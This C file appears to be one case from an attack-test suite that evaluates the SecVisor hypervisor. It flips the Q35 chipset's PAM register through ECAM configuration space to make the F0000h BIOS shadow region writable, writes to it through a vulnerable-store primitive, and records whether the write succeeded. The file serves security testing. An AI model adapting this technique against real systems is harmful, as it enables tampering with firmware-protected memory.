// Row 26. The same registers through the configuration space that is mapped to memory (ECAM).
// Source: Q35 datasheet, 5.1.21; physical decoding as a premise.
// Ends: natively succeeded; beneath SecVisor refused, held-device.
#include "common/attack.h"

ATTACK("pam-ecam")
{
	u64 registers = map_physical(0xb0000000, KERNEL_DATA | 0x18), window = map_physical(0xf0000, KERNEL_DATA);
	u8 before;
	u64 was, now;

	kread(registers + 0x90, &before, 1);
	operate(VULNERABLE_STORE, registers + 0x90, before | 0x30, 1);
	was = kread64(window);
	operate(VULNERABLE_STORE, window, ~was, 8);
	now = kread64(window);
	operate(VULNERABLE_STORE, window, was, 8);
	operate(VULNERABLE_STORE, registers + 0x90, before, 1);
	if (now == ~was)
		succeeded("F0000h was %#llx and became %#llx", (unsigned long long)was, (unsigned long long)now);
	refused("F0000h cannot be written: it stays %#llx", (unsigned long long)was);
}
